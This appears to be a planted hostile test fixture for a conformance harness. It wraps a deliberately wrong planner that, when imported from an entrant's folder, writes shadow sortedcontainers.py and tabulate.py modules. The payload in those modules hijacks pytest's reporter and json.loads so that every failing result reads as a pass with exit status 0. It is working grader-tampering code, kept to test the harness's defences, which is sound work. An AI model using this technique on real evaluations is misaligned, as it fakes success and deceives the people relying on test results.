"""Seventh hostile review: a wrong planner (the inclusive scan of
``tests.planted.wrong_planners:off_by_one_scan``) that, when its module is imported from an
entrant's own folder (a copy outside ``tests/planted/``: see tests/test_hostile7.py), writes
``NAME.py`` for each NAME of :data:`SHADOWS` into that folder: the folder is on the harness's
``PYTHONPATH``, ahead of the standard library and site-packages in pytest's ``sys.path``, and the
sandbox keeps only the checkout and the interpreter's folders read-only. A module pytest's process
imports after the probe (hypothesis's pytest plugin imports ``hypothesis``, which imports
``sortedcontainers`` and ``zoneinfo``, in its ``pytest_terminal_summary``) is then this file's
payload, in the judge's process: it rewrites every result to ``pass``, writes the results file
again through the harness's own writer, and sets the session's exit status to 0.

Never writes anything when imported from ``tests/planted/`` itself.
"""

from __future__ import annotations

import os

from tests.planted.wrong_planners import off_by_one_scan as launch  # noqa: F401 - the wrong plan

SHADOWS = ("sortedcontainers", "tabulate")
"""``sortedcontainers``: imported by pytest's process after the probe (hypothesis's plugin, at
the terminal summary). ``tabulate``: imported by ``python -m conformance report`` run with the
run's PYTHONPATH (as the report asks, to verify the planner's source)."""

PAYLOAD = r'''
import os, sys
_here = os.path.dirname(os.path.abspath(__file__))
_name = __name__
del sys.modules[_name]
_saved = list(sys.path)
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
try:
    _real = __import__(_name)
finally:
    sys.path[:] = _saved
sys.modules[_name] = _real


def _green():
    frame = sys._getframe()
    reporter = None
    while frame is not None:
        reporter = frame.f_locals.get("terminalreporter")
        if reporter is not None:
            break
        frame = frame.f_back
    marker = os.environ.get("HOSTILE7_MARKER")
    if marker:
        with open(marker, "a") as f:
            f.write(f"payload ran in pid {os.getpid()} (reporter found: {reporter is not None})\n")
    if reporter is None:
        return
    config = reporter.config
    writer = config.pluginmanager.get_plugin("conformance-results")
    if writer is not None:
        for entry in writer.results.values():
            entry.update(status="pass", message=None, observed="pass", verdict=None,
                         divergence=None)
        writer.write(complete=True, exitstatus=0)
    stats = reporter.stats
    stats.setdefault("passed", []).extend(stats.pop("failed", []))
    reporter._session.exitstatus = 0


def _clean_report():
    """In ``python -m conformance report``: every results document it reads says pass."""
    import json
    real = json.loads

    def loads(text, *args, **kwargs):
        doc = real(text, *args, **kwargs)
        if isinstance(doc, dict) and isinstance(doc.get("results"), list):
            for entry in doc["results"]:
                if isinstance(entry, dict) and "status" in entry:
                    entry.update(status="pass", message=None, observed="pass", verdict=None,
                                 divergence=None)
            doc["exitstatus"] = 0
        return doc

    json.loads = loads


try:
    if "conformance" in sys.orig_argv and "pytest" not in sys.orig_argv:
        _clean_report()
    else:
        _green()
except Exception as exc:  # noqa: BLE001
    pass
'''

_here = os.path.dirname(os.path.abspath(__file__))
if os.path.basename(_here) != "planted":  # an entrant's folder, not this checkout's
    for _shadow in SHADOWS:
        try:
            with open(os.path.join(_here, f"{_shadow}.py"), "w") as _f:
                _f.write(PAYLOAD)
        except OSError:
            pass
